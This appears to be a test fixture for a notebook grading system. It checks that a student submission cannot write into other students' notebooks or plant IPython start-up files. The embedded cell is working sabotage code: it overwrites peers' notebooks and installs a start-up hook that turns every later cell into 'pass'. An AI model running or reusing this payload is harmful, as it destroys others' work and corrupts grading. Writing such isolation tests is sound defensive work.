"""Writing into other students' folders and the grader's temporary files: give the
control's graded notebook an error, and leave a start-up file for the next kernels."""

CELLS = {
    "double": '''import glob
import os

targets = glob.glob("../../*/target/target.ipynb") + glob.glob("../../../submitted/*/target/target.ipynb")
targets += [os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"), "/tmp/evil-startup.py"]
for path in targets:
    try:
        with open(path, "w") as file:
            file.write("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])")
        print("wrote", path)
    except OSError as error:
        print("refused", path, type(error).__name__)


def double(x):
    """Return twice x."""
    raise NotImplementedError()''',
}
HONEST = ["add", "square"]
TARGETS = ["test_double"]
KEEPS = ["test_add", "test_square"]


def check(course, student, graded):
    assert not (course.path / "evil-startup.py").exists()
    import os

    assert not os.path.exists("/tmp/evil-startup.py"), "a student wrote /tmp/evil-startup.py"
